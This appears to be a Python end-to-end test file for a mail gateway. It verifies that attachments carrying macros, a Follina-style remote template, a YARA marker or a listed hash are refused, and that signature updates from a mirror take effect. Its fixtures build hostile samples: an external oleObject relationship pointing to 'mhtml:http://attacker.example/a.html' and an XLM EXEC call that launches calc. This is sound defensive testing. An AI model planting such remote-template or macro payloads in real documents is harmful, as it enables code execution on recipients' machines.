"""YARA, the Office analysis, the hash list and scheduled signature updates in a running gateway.

Over SMTP against a real clamd (``tests/scanning/clamd.py``): a macro document, a document with
a remote template (the Follina relationship), a YARA rule's match and a listed hash are
refused; a clean Office document is delivered. With ``[antivirus.updates] mirror`` set, the
gateway runs freshclam against a mirror served on loopback at start and reloads clamd, which
then refuses a signature published on the mirror.
"""

from __future__ import annotations

import hashlib
import io
import shutil
import smtplib
import time
import zipfile
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest

from edgeward.config.schema import Config
from tests.e2e.harness import InProcessGateway, SmtpSink, free_port, gateway_config
from tests.scanning.clamd import CLAMD, STREAM_MAX, Clamd, start_clamd
from tests.scanning.mirror import Mirror
from tests.scanning.office_samples import sample
from tests.scanning.test_odf import BASIC, ON_LOAD, odf
from tests.scanning.test_xlm import xlsm

pytestmark = pytest.mark.e2e

LISTED = b"a file the site has seen before and lists by hash\n"
YARA_MARK = b"EDGEWARD-SITE-RULE-" + b"MARK"


@pytest.fixture
def clamd(workdir: Path) -> Iterator[Clamd]:
    if CLAMD is None or shutil.which("freshclam") is None:
        pytest.skip("clamd/freshclam are not installed (scripts/install-test-deps.sh)")
    server = start_clamd(workdir / "clamd")
    yield server
    server.stop()


def _config(workdir: Path, port: int, sink: SmtpSink, clamd: Clamd, mirror: Mirror | None = None) -> Config:
    rules = workdir / "yara"
    rules.mkdir(exist_ok=True)
    (rules / "site.yar").write_text(
        f'rule Site_Mark {{ strings: $m = "{YARA_MARK.decode()}" condition: $m }}\n'
    )
    (workdir / "hashes.txt").write_text(f"{hashlib.sha256(LISTED).hexdigest()} Site.Listed\n")
    antivirus: dict[str, object] = {
        "enabled": True,
        "clamd": {"socket": str(clamd.socket), "timeout": 5, "max_stream": STREAM_MAX},
        "office": {"timeout": 20},
        "yara": {"enabled": True, "rules_dir": str(rules)},
        "hashes": {"file": str(workdir / "hashes.txt")},
    }
    if mirror is not None:
        antivirus["updates"] = {
            "mirror": mirror.url, "custom_urls": [f"{mirror.url}/site.ndb"], "official_databases": False,
            "clamd_conf": str(clamd.root / "clamd.conf"), "interval": "1h",
        }  # fmt: skip
    config = gateway_config(workdir, port=port, sink_port=sink.port, antivirus=antivirus)
    # The Office analysis may take seconds on a loaded machine; the agent must not time out first.
    return config.model_copy(update={"agents": config.agents.model_copy(update={"timeout": 60.0})})


def _attached(filename: str, data: bytes) -> bytes:
    msg = EmailMessage()
    msg["From"] = "sender@remote.test"
    msg["To"] = "user@example.test"
    msg["Subject"] = f"about {filename}"
    msg.set_content("Please see the attachment.\n")
    msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=filename)
    return msg.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def _send(port: int, data: bytes) -> tuple[int, bytes]:
    with smtplib.SMTP("127.0.0.1", port, source_address=("127.0.0.2", 0), timeout=120) as c:
        c.ehlo("client.remote.test")
        c.mail("sender@remote.test")
        c.rcpt("user@example.test")
        try:
            return c.data(data)
        except smtplib.SMTPDataError as exc:
            return exc.smtp_code, exc.smtp_error


def _follina() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(
            "[Content_Types].xml",
            "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>",
        )
        z.writestr(
            "word/document.xml",
            "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>",
        )
        z.writestr("word/_rels/document.xml.rels", (
            "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
            "<Relationship Id='rId9' TargetMode='External'"
            " Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject'"
            " Target='mhtml:http://attacker.example/a.html!x-usc:http://attacker.example/a.html'/>"
            "</Relationships>"
        ))  # fmt: skip
    return buf.getvalue()


def test_office_yara_and_hash_findings_are_refused_over_smtp(
    workdir: Path, sink: SmtpSink, clamd: Clamd
) -> None:
    port = free_port()
    with InProcessGateway(_config(workdir, port, sink, clamd)):
        code, text = _send(port, _attached("invoice.docm", sample("oleform/oleform-PR314.docm")))
        assert code == 550 and text.startswith(b"5.7.1 Dangerous content found: "), text
        code, text = _send(port, _attached("offer.docx", _follina()))
        assert code == 550 and b"mhtml:" in text, text
        code, text = _send(port, _attached("notes.txt", b"see " + YARA_MARK + b"\n"))
        assert (code, text) == (550, b"5.7.1 Virus found: Site_Mark (2/notes.txt)")
        code, text = _send(port, _attached("data.bin", LISTED))
        assert (code, text) == (550, b"5.7.1 Virus found: Site.Listed (2/data.bin)")
        # An OpenDocument text running a Basic macro on opening, and an XLM workbook calling EXEC.
        minutes = odf(head=ON_LOAD, parts={"Basic/Standard/Module1.xml": BASIC})
        code, text = _send(port, _attached("minutes.odt", minutes))
        assert code == 550 and b"odf-event:dom:load" in text, text
        code, text = _send(port, _attached("book.xlsm", xlsm('EXEC(CHAR(99)&"alc")')))
        assert code == 550 and text.startswith(b"5.7.1 Dangerous content found: "), text
        assert _send(port, _attached("clean.docx", sample("msodde/harmless-clean.docx")))[0] == 250
        [delivered] = sink.wait_for(1)
    assert b"clean.docx" in delivered
    tracking = "".join(p.read_text() for p in (workdir / "log").rglob("*track*"))
    for name in ("AV_MACRO_AUTOEXEC", "AV_EXTERNAL_REFERENCE", "AV_YARA_MATCH", "AV_HASH_BLOCKED"):
        assert name in tracking
    assert "xlm:EXEC" in tracking and "odf-basic:Basic/Standard/Module1.xml" in tracking


def test_the_gateway_updates_signatures_from_its_mirror(workdir: Path, sink: SmtpSink, clamd: Clamd) -> None:
    mirror = Mirror(workdir / "mirror")
    published = b"EDGEWARD-PUBLISHED-BY-" + b"THE-MIRROR-44d0"
    mirror.publish("site.ndb", f"Edgeward-Mirror-Signature:0:*:{published.hex()}\n")
    port = free_port()
    try:
        with InProcessGateway(_config(workdir, port, sink, clamd, mirror)):
            state = workdir / "state" / "av-update.json"
            for _ in range(1200):  # the first round runs at start
                if state.exists():
                    break
                time.sleep(0.1)
            assert "/site.ndb" in mirror.requests
            for _ in range(600):  # clamd swaps the new databases in once it has loaded them
                code, text = _send(port, _attached("x.bin", published))
                if code == 550:
                    break
                time.sleep(0.2)
            assert (code, text) == (550, b"5.7.1 Virus found: Edgeward-Mirror-Signature.UNOFFICIAL (2/x.bin)")
    finally:
        mirror.close()
